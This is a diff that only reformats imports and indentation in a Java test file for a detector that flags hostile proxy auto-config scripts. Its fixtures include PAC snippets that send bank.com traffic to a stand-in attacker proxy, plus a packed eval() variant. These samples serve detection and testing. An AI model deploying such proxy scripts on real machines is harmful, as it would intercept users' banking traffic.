@@ -1,18 +1,15 @@
 package wolfhound.intel.endpoint;
 
-import static org.assertj.core.api.Assertions.assertThat;
-
 import static java.nio.charset.StandardCharsets.UTF_16LE;
 import static java.nio.charset.StandardCharsets.UTF_8;
-
-import org.junit.jupiter.api.Test;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.ValueSource;
-
-import wolfhound.intel.endpoint.ProxyFinding.Purpose;
+import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.Base64;
 import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import wolfhound.intel.endpoint.ProxyFinding.Purpose;
 
 /// Whom a proxy script serves, told without running it.
 class ProxyCheckTest {
@@ -68,7 +65,7 @@ class ProxyCheckTest {
                 "if (/(^|\\.)bank\\.com$/.test(host)) return 'PROXY 203.0.113.9:80';",
                 "if (!(host != 'bank.com')) return 'PROXY evil.example.org:80';",
                 "if (host.indexOf('bank.com') == -1) return 'DIRECT'; else return 'PROXY"
-                    + " 203.0.113.9:80'; if (host == 'bank.com') return 'PROXY 203.0.113.9:80';",
+                        + " 203.0.113.9:80'; if (host == 'bank.com') return 'PROXY 203.0.113.9:80';",
                 "return shExpMatch(host, '*bank*') ? 'PROXY 203.0.113.9:80' : 'DIRECT';",
                 "switch (host) { case 'bank.com': case 'shop.com': return 'PROXY 203.0.113.9:80';"
                         + " default: return 'DIRECT'; }",
@@ -111,9 +108,9 @@ class ProxyCheckTest {
     void unpacksAPackedProgram() {
         String packed =
                 "eval(function(p,a,c,k,e,d){return p}('2 3(0,1){4(1==\"5.6\"){7\"8"
-                    + " 9.a.b.c\"}7\"d\"}',14,14,"
-                    + "'url|host|function|FindProxyForURL|if|bank|com|return|PROXY|203|0|113|9|DIRECT'"
-                    + ".split('|'),0,{}))";
+                        + " 9.a.b.c\"}7\"d\"}',14,14,"
+                        + "'url|host|function|FindProxyForURL|if|bank|com|return|PROXY|203|0|113|9|DIRECT'"
+                        + ".split('|'),0,{}))";
 
         assertThat(check(packed).stream().map(ProxyFinding::purpose))
                 .containsExactly(Purpose.REDIRECT, Purpose.VEILED);
